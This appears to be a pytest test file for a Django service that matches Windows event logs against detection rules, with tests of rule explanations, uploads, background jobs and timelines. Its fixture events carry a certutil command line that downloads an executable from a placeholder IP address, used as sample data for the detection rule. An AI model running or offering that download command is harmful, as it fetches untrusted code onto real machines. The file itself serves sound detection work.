"""/match/ and /api/match/ with explanations, event files and background jobs; match_event; test events.

Runs on the example rules (rules/): the certutil rule's selections are read from its YAML here.
"""

import io
import json

import pytest
from django.core.management import call_command

from catalog.matching.engine import forget_compiled
from catalog.matching.grouping import TIMELINE_VALUE_CHARS, timeline_fields
from catalog.models import Rule
from catalog.models.matching_jobs import MatchJob, RuleTestEvent
from catalog.publishing.versioning import bump_version
from tests.constants import CERTUTIL_ID, CORPUS
from tests.task_worker import run_queued_tasks

COMMAND = "certutil.exe -urlcache -f http://198.51.100.7/a.exe a.exe"
HIT = {
    "EventID": 1,
    "Channel": "Microsoft-Windows-Sysmon/Operational",
    "Provider_Name": "Microsoft-Windows-Sysmon",
    "Image": "C:\\Windows\\System32\\certutil.exe",
    "CommandLine": COMMAND,
    "UtcTime": "2026-01-02 03:04:05.000",
}
MISS = {**HIT, "CommandLine": "certutil.exe -hashfile a.exe", "UtcTime": "2026-01-01 00:00:00.000"}
SYSMON_EVTX = (
    CORPUS / "regression_data/rules-emerging-threats/2026/Exploits/RedSun/pipe_created_win_exploit_redsun_named_pipe"
)


@pytest.fixture(autouse=True)
def fresh(settings, tmp_path, example_rules):
    forget_compiled()
    settings.CATALOG_MATCH_JOB_DIR = str(tmp_path / "jobs")
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "DEFAULT_THROTTLE_RATES": {"anon": None, "match": None}}
    yield
    forget_compiled()


def post_events(client, events, query=""):
    return client.post(f"/api/match/{query}", json.dumps(events), content_type="application/json")


def test_api_explains_fired_rules_with_matched_values(client):
    answer = post_events(client, [HIT]).json()
    rule = next(r for r in answer["events"][0]["rules"] if r["id"] == CERTUTIL_ID)
    assert {"id", "title", "level", "url"} <= set(rule)  # the existing keys stay
    explanation = rule["explanation"]
    assert explanation["fired"] is True and explanation["condition"][0]["result"] is True
    verb = next(b for b in explanation["blocks"] if b["name"] == "selection_verb")["groups"][0]["predicates"][0]
    assert verb["field"] == "CommandLine" and verb["modifiers"] == ["windash", "contains"]
    start, end = verb["matches"][0]
    assert COMMAND[start:end] == "-urlcache"


def test_api_why_not_names_the_block_that_failed(client):
    answer = post_events(client, [MISS], f"?why_not={CERTUTIL_ID}").json()
    assert CERTUTIL_ID not in {r["id"] for r in answer["events"][0]["rules"]}
    why = answer["events"][0]["why_not"]["explanation"]
    assert why["fired"] is False and why["why_not"]["block"] == "selection_verb"
    assert why["why_not"]["predicate"]["event_value"] == MISS["CommandLine"]
    assert post_events(client, [MISS], "?why_not=00000000-0000-4000-8000-000000000000").status_code == 400


def test_page_shows_explanation_with_highlight_and_why_not(client):
    response = client.post("/match/", {"event": json.dumps(HIT)})
    page = response.content.decode()
    assert response.status_code == 200 and "<mark>-urlcache</mark>" in page and "Why <strong>" in page
    response = client.post("/match/", {"event": json.dumps(MISS), "why_not": CERTUTIL_ID})
    assert "did not match" in response.content.decode() and "selection_verb" in response.content.decode()


def upload(client, name, data: bytes, url="/match/upload/"):
    handle = io.BytesIO(data)
    handle.name = name
    return client.post(url, {"file": handle})


def test_jsonl_upload_runs_as_a_job_grouped_by_rule_and_timeline(client):
    lines = "\n".join(json.dumps(e) for e in (HIT, MISS, {**HIT, "UtcTime": "2026-01-03 00:00:00.000"}))
    response = upload(client, "events.jsonl", lines.encode())
    assert response.status_code == 302
    job = MatchJob.objects.get()
    assert response["Location"] == f"/match/jobs/{job.token}/" and job.status == "queued"
    assert "Events matched" in client.get(response["Location"]).content.decode()  # the progress page
    assert run_queued_tasks() == 1
    job.refresh_from_db()
    assert job.status == "done" and job.events_done == 3 and job.total_events == 3 and not job.file_path
    group = next(g for g in job.results["rules"] if g["id"] == CERTUTIL_ID)
    assert group["count"] == 2 and group["first"] == HIT["UtcTime"] and group["last"] == "2026-01-03 00:00:00.000"
    assert group["samples"][0]["explanation"]["fired"] is True
    assert [e["number"] for e in job.results["timeline"] if CERTUTIL_ID in {r["id"] for r in e["rules"]}] == [1, 3]
    page = client.get(f"/match/jobs/{job.token}/").content.decode()
    assert "By rule" in page and "<mark>-urlcache</mark>" in page and "Timeline" in page
    api = client.get(f"/api/match/jobs/{job.token}/").json()
    assert api["status"] == "done" and api["results"]["rules"][0]["count"] >= 2


def test_nul_bytes_in_a_file_are_dropped_not_fatal(client):
    data = json.dumps({**HIT, "Image": "C:\\Windows\\System32\\certutil.exe\u0000"}).encode()
    assert upload(client, "one.json", data).status_code == 302
    run_queued_tasks()
    job = MatchJob.objects.get()
    assert job.status == "done" and job.results["rules"][0]["id"] == CERTUTIL_ID


def test_limits_are_enforced_before_parsing(client, settings):
    settings.CATALOG_MATCH_MAX_UPLOAD_BYTES = 100
    response = upload(client, "big.jsonl", b"{}\n" * 2000)
    assert response.status_code == 413 and "at most 100 bytes" in response.content.decode()
    assert not MatchJob.objects.exists()
    settings.CATALOG_MATCH_MAX_UPLOAD_BYTES = 10**6
    settings.CATALOG_MATCH_MAX_FILE_EVENTS = 2
    upload(client, "three.jsonl", b"{}\n{}\n{}\n")
    run_queued_tasks()
    job = MatchJob.objects.get()
    assert job.status == "failed" and job.message == "three.jsonl: 3 events (at most 2)." and job.events_done == 0
    assert upload(client, "x.bin", b"\x01\x02 not json").status_code == 400


def test_bad_json_fails_the_job_with_file_and_line(client):
    upload(client, "bad.jsonl", b'{"a": 1}\n{"a": \n')
    run_queued_tasks()
    job = MatchJob.objects.get()
    assert job.status == "failed" and job.message.startswith("bad.jsonl: line 2, column")


@pytest.mark.skipif(not SYSMON_EVTX.is_dir(), reason="needs the SigmaHQ snapshot's regression_data")
def test_evtx_upload_through_the_api(client, settings):
    evtx = next(SYSMON_EVTX.glob("*.evtx"))
    response = upload(client, evtx.name, evtx.read_bytes(), url="/api/match/files/")
    assert response.status_code == 202
    run_queued_tasks()
    answer = client.get(response.json()["url"]).json()
    expected = json.loads(next(SYSMON_EVTX.glob("*.json")).read_text())  # the same event, rendered as JSON
    assert answer["status"] == "done" and answer["format"] == "evtx" and answer["results"]["events"] == 1
    settings.CATALOG_MATCH_MAX_FILE_EVENTS = 0
    upload(client, evtx.name, evtx.read_bytes())
    run_queued_tasks()
    assert MatchJob.objects.get(status="failed").message == f"{evtx.name}: 1 events (at most 0)."
    assert expected["Event"]["System"]["EventRecordID"]  # the parsed file is the event the JSON shows


def test_match_event_command_reads_files_and_writes_jsonl(tmp_path, capsys):
    path = tmp_path / "events.jsonl"
    path.write_text("\n".join(json.dumps(e) for e in (MISS, HIT)), encoding="utf-8")
    call_command("match_event", str(path), "--format", "jsonl")
    records = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    mine = [r for r in records if r["rule"]["id"] == CERTUTIL_ID]
    assert [r["event"] for r in mine] == [2]
    assert any(m["matched"] == ["-urlcache"] for m in mine[0]["matched"])
    call_command("match_event", str(path))
    assert f"{path}: 2 event(s), 1 with hits" in capsys.readouterr().out


def test_has_test_events_filter_and_rule_page(client):
    rule = Rule.objects.get(uuid=CERTUTIL_ID)
    RuleTestEvent.objects.create(rule=rule, source=rule.source, path="regression_data/x/e.json", event_count=2,
                                 events=[HIT, MISS])  # fmt: skip
    bump_version()  # as the import that writes test events does: lists read them through the per-version rule index
    listed = client.get("/api/rules/?has_test_events=true").json()
    assert [r["id"] for r in listed["results"]] == [CERTUTIL_ID]
    others = client.get("/api/rules/?has_test_events=false").json()["count"]
    assert others == Rule.objects.live().count() - 1
    page = client.get(f"/rules/{CERTUTIL_ID}/").content.decode()
    assert f'href="/rules/{CERTUTIL_ID}/test-events/">2 logged events' in page
    events_page = client.get(f"/rules/{CERTUTIL_ID}/test-events/").content.decode()
    assert "the rule fires" in events_page and "the rule does not fire" in events_page


def test_the_timeline_names_what_each_event_holds(client):
    """Issue 21, rough edge 7: each timeline entry carries the fields an analyst reads first, as the event
    carries them (Security 4688's NewProcessName and SubjectUserName stand for Image and User), cut to a bound."""
    security = {
        "EventID": 4688,
        "Channel": "Security",
        "Computer": "ws-17.corp.example",
        "SubjectUserName": "alice",
        "NewProcessName": "C:\\Windows\\System32\\certutil.exe",
        "CommandLine": COMMAND + " " + "x" * TIMELINE_VALUE_CHARS,
    }
    assert timeline_fields(security) == [
        {"field": "Computer", "value": "ws-17.corp.example"},
        {"field": "User", "value": "alice"},
        {"field": "Image", "value": "C:\\Windows\\System32\\certutil.exe"},
        {"field": "CommandLine", "value": security["CommandLine"][:TIMELINE_VALUE_CHARS] + "…"},
    ]
    empty_image = {"Image": "", "User": None, "TargetFilename": "C:\\a.txt"}
    assert timeline_fields(empty_image) == [{"field": "TargetFilename", "value": "C:\\a.txt"}]

    upload(client, "events.jsonl", json.dumps({**HIT, "Computer": "ws-17", "User": "CORP\\bob"}).encode())
    assert run_queued_tasks() == 1
    job = MatchJob.objects.get()
    entry = client.get(f"/api/match/jobs/{job.token}/").json()["results"]["timeline"][0]
    shown = {"Computer": "ws-17", "User": "CORP\\bob", "Image": HIT["Image"], "CommandLine": COMMAND}
    assert entry["fields"] == [{"field": name, "value": value} for name, value in shown.items()]  # in this order
    page = client.get(f"/match/jobs/{job.token}/").content.decode()
    assert '<dl class="event-fields"><dt>Computer</dt><dd><code>ws-17</code></dd>' in page
